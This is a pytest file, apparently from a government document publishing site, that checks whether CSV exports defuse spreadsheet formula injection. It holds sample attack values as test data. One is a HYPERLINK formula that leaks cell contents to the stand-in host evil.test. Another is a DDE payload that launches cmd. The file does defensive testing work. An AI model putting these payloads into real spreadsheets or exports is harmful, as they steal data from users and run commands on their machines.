"""CSV formula injection: a cell that a spreadsheet would run as a formula is neutralised in
every CSV export (OWASP: prefix ``'`` to cells starting with = + - @ tab CR); JSON keeps the value."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from hardening_support import DEPARTMENTS, build, copy_project, write_data
from hardening_support import DOCUMENT as D
from hardening_support import replace_once as r

from gazette.publish.csvfile import FORMULA_START, csv_text, neutralise

TITLE = '=HYPERLINK("http://evil.test/?x="&A1,"点击")'
CELL = "+cmd|' /C calc'!A0"
UNIT_NAME = "@衢州市统计局"
DEADLINE_TEXT = "-2018年6月底前"
TABLE = """\
      columns: [序号, 工作任务, 责任单位, 完成时限]
      rows:
        - ['1', "+cmd|' /C calc'!A0", 市统计局, 2018年6月底前]
        - ['2', 数据上报, 市财政局, '-2018年6月底前']"""


@pytest.mark.unit
@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_neutralised(start: str) -> None:
    value = f"{start}SUM(A1:A9)"
    assert neutralise(value) == f"'{value}"
    rows = list(csv.reader(io.StringIO(csv_text(["a"], [{"a": value}]))))
    assert rows == [["a"], [f"'{value}"]]


@pytest.mark.unit
def test_ordinary_text_is_unchanged() -> None:
    for value in ("衢政发〔2018〕15号", "2018-05-03", "市统计局;市财政局", "'已引号", ""):
        assert neutralise(value) == value


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("csv")
    project = copy_project(tmp / "p")
    shutil.rmtree(project / "data")
    table = "      columns: [项目, 数量]\n      rows:\n        - [法人单位, '1']\n        - [null, '2']"
    doc = r(r(D, "title: 衢州市人民政府关于开展第四次经济普查的通知", f"title: '{TITLE.replace(chr(39), chr(39) * 2)}'"), table, TABLE)
    write_data(project, {"documents/2018/qzf-15.yaml": doc, "departments.yaml": r(DEPARTMENTS, "name: 衢州市统计局", f"name: '{UNIT_NAME}'")})
    out = tmp / "out"
    result = build(project, out)
    assert result.returncode == 0, result.stderr[-3000:]
    return out


def _cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.site
def test_no_csv_export_has_a_live_formula(built: Path) -> None:
    files = sorted(built.rglob("*.csv"))
    names = {p.relative_to(built).as_posix() for p in files}
    assert {"data/documents.csv", "data/tasks.csv", "departments/tjj/tasks.csv", "departments/czj/tasks.csv"} <= names, names
    assert any(n.startswith("2018/qzf-15/tables/") for n in names), names  # the per-table export
    seen = set()
    for path in files:
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), path  # still the BOM for Excel
        for cell in _cells(path):
            assert not cell.startswith(FORMULA_START), f"{path.relative_to(built)}: {cell!r}"
            seen.update(v for v in (TITLE, CELL, UNIT_NAME, DEADLINE_TEXT) if cell == f"'{v}" or cell.startswith(f"'{v}"))
    assert seen == {TITLE, CELL, UNIT_NAME, DEADLINE_TEXT}, seen  # every injected value reached a CSV, neutralised


@pytest.mark.site
def test_json_keeps_the_values(built: Path) -> None:
    documents = json.loads((built / "data" / "documents.json").read_text(encoding="utf-8"))["documents"]
    assert documents[0]["title"] == TITLE
    tasks = json.loads((built / "data" / "tasks.json").read_text(encoding="utf-8"))["tasks"]
    assert any(t["text"].startswith(CELL) for t in tasks)
